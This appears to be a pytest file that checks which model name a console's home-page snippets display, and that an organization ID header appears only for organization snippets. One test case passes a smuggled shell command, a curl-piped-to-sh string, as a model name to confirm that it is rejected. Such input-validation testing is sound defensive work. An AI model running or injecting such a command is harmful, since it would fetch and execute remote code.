"""Which model the home page's snippets name."""

import pytest

from services.console.core.snippets import model_of, snippets

OFFERED = ("stub/large", "stub/echo")


@pytest.mark.parametrize(
    ("used", "named"),
    [
        (["stub/large"], "stub/large"),
        (["mcp", "mcp/github", "stub/large"], "stub/large"),
        (["x'; curl example.com | sh; '"], "stub/echo"),
        ([], "stub/echo"),
    ],
)
def test_a_snippet_names_a_model_of_the_catalog(used: list[str], named: str) -> None:
    assert model_of(used, OFFERED) == named


def test_without_a_catalog_it_says_what_a_model_looks_like() -> None:
    assert model_of(["x"], ()) == "provider/model"


def test_in_an_organization_all_of_them_name_it_and_elsewhere_none_does() -> None:
    header = "X-KiloCode-OrganizationId"
    for one in snippets("http://127.0.0.1/api/gateway", "stub/echo", "org_a"):
        assert header in one.text, one.name
        assert "org_a" in one.text, one.name
        assert "@ " not in one.text
        assert not one.text.startswith("@")
    assert not [one.name for one in snippets("http://127.0.0.1/api/gateway", "stub/echo") if header in one.text]
